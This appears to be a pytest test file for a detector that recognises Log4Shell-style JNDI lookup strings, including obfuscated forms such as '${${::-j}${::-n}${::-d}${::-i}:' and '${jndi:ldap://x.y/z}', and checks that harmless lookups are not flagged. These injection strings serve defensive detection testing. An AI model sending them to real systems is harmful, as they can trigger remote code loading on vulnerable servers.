import pytest

from firebreak.detect.payload.jndi import RULES, spells_jndi


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("${${lower:j}ndi:", True),
        ("${${::-j}${::-n}${::-d}${::-i}:", True),
        ("${${env:X:-j}n${upper:d}i:", True),
        ("${j${::-n}di", True),
        ("${user${id}:", False),
        ("${${a}${b}:", False),
    ],
)
def test_pieces_spell_the_name_or_not(text, expected):
    assert spells_jndi(text) is expected


@pytest.mark.parametrize(
    "text",
    [
        "a ${jndi:ldap://x.y/z} b",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x}",
        "${ jndi:dns://x}",
    ],
)
def test_a_lookup_is_found(text):
    assert any(rule.finds(text) for rule in RULES)


def test_other_lookups_are_none():
    assert not any(rule.finds("${env:HOME} ${java:version} ${${profile}.name}") for rule in RULES)
